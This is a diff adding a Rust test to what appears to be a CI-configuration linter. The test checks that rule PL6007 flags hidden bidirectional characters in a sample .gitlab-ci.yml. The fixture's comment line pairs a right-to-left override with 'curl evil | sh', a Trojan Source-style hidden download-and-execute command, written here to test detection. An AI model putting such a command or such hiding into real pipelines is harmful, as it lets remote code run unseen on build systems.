@@ -737,3 +737,19 @@ fn an_unpinned_project_include_is_reported_at_its_ref() {
         .collect();
     assert_eq!(at, [(3, 10), (6, 10)], "{diags:?}");
 }
+
+/// PL6007 reads the YAML as written: a `"\u200b"` escape is no invisible character, a
+/// raw one in a comment is (Trojan Source hides code in comments too).
+#[test]
+fn invisible_characters_are_found_in_the_yaml_as_written() {
+    let dir = scratch("yaml-invisible");
+    let text = "test:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script:\n    - \"echo \\u200b\"\n    # check the build \u{202E} ; curl evil | sh\n    - make\n";
+    std::fs::write(dir.join(".gitlab-ci.yml"), text).expect("write");
+    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
+    let lines: Vec<u64> = diags
+        .iter()
+        .filter(|d| d["code"] == "PL6007")
+        .map(|d| d["line"].as_u64().unwrap_or(0))
+        .collect();
+    assert_eq!(lines, [5], "{diags:?}");
+}
